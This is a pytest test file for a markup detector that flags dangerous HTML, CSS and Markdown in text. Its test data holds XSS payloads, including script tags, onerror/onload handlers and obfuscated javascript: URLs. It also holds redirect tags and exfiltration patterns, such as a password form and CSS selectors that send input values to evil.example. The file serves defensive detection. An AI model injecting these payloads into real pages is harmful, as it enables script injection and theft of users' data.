import pytest

from lockgate.detect.markup import find_markup


@pytest.mark.parametrize(
    ("text", "label"),
    [
        ("<script>alert(1)</script>", "markup.script"),
        ("<SCRIPT/SRC=//evil.example/x.js>", "markup.script"),
        ("<script", "markup.script"),
        ("<img src=x onerror=alert(1)>", "markup.handler"),
        ('<img alt=">" onerror="alert(1)">', "markup.handler"),
        ("<svg/onload=alert(1)>", "markup.handler"),
        ("<details open ontoggle='alert(1)'>", "markup.handler"),
        ("<iframe src=https://evil.example></iframe>", "markup.frame"),
        ("<object data=x>", "markup.frame"),
        ("<embed src=x>", "markup.frame"),
        ('<p srcdoc="x">', "markup.frame"),
        ('<form action="https://evil.example"><input name=password></form>', "markup.form"),
        ("<button formaction=//evil.example>", "markup.form"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "markup.meta"),
        ("<base href=//evil.example/>", "markup.meta"),
        ("<link rel=stylesheet href=//evil.example/x.css>", "markup.meta"),
        ("<style>input[value^=a]{background:url(//evil.example/a)}</style>", "markup.style"),
        ("input[value^='a'] { background: url(https://evil.example/a) }", "markup.style"),
        ('<p style="background:url(https://evil.example/x)">', "markup.style"),
        ("@import url(https://evil.example/x.css);", "markup.style"),
        ("<svg><foreignObject><b/></foreignObject></svg>", "markup.svg"),
        ("<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "markup.svg"),
        ("<use href=data:image/svg+xml;base64,AAAA#x />", "markup.svg"),
        ("[x](javascript:alert(1))", "markup.url"),
        ("[x](&#106;avascript:alert(1))", "markup.url"),
        ('<a href="java\nscript:alert(1)">x</a>', "markup.url"),
        ('<a href=" \x01JavaScript:alert(1)">x</a>', "markup.url"),
        ("<javascript:alert(1)>", "markup.url"),
        ("[1]: vbscript:msgbox(1)", "markup.url"),
        ("![x](data:image/svg+xml;base64,PHN2Zz4=)", "markup.url"),
        ("[x](data:text/html,hello)", "markup.url"),
    ],
)
def test_active_markup_is_found(text: str, label: str) -> None:
    assert label in {span.label for span in find_markup(text)}


@pytest.mark.parametrize(
    "text",
    [
        "A <b>bold</b> word, a<b and c>d, <table><tr><td>1</td></tr></table>, <br/>",
        '<img src="https://example.org/boat.png" alt="boat" width=200>',
        "![boat](data:image/png;base64,iVBORw0KGgo=)",
        '<svg viewBox="0 0 9 9"><path d="M0 0h9"/></svg>',
        '<p style="color: red">Red</p> <a href="https://example.org">site</a> <a href="#top">top</a>',
        "Turn it on = save power. Once = enough. Set onboarding = true.",
        "In React write onClick={save}; in Python button.on_click = save.",
        "The script tag, the form element and the javascript language are old.",
        "See description, prescript and <scripture>.",
        "a[href^=x] selects links. Use url(boat.png) as a background.",
        '<meta charset="utf-8"> <linker> <formula> <basement>',
    ],
)
def test_plain_markup_and_prose_are_left_alone(text: str) -> None:
    assert find_markup(text) == ()


@pytest.mark.parametrize("text", ["<script" * 20_000, "<a href=" * 20_000, " style='" * 20_000, "\ud800<svg " * 20_000])
def test_hostile_texts_are_read_in_bounded_time(text: str) -> None:
    find_markup(text)
